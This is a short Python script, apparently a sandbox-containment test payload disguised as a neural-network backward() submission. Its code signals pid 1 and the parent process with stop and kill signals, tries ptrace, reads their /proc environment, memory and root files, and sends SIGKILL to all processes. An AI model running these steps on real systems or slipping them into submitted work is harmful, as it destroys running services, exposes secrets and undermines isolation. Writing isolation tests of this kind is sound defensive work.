"""Attack: the process it can see besides itself, pid 1 of its namespace (and its parent): signal it with
everything, ptrace it, read its memory, environment, root and working folder."""
import ctypes
import json
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
seen = {}
for pid in sorted({1, os.getppid()} - {0, os.getpid()}):
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGSEGV):
        try:
            os.kill(pid, sig)
            seen[f"kill {pid} {sig.name}"] = "sent"
        except OSError as exc:
            seen[f"kill {pid} {sig.name}"] = exc.strerror
    seen[f"ptrace {pid}"] = "attached" if libc.ptrace(16, pid, None, None) == 0 else os.strerror(ctypes.get_errno())
    for what in ("environ", "mem", "maps", "root/etc", "cwd"):
        try:
            path = f"/proc/{pid}/{what}"
            seen[f"{pid}/{what}"] = (os.listdir(path)[:5] if os.path.isdir(path) else
                                     open(path, "rb").read(200).decode("utf-8", "replace"))
        except OSError as exc:
            seen[f"{pid}/{what}"] = exc.strerror
try:
    os.kill(-1, signal.SIGKILL)
except OSError as exc:
    seen["kill -1"] = exc.strerror
print("PID1 " + json.dumps(seen))


def backward(weights, biases, activations, targets):
    raise PermissionError("pid 1 held")
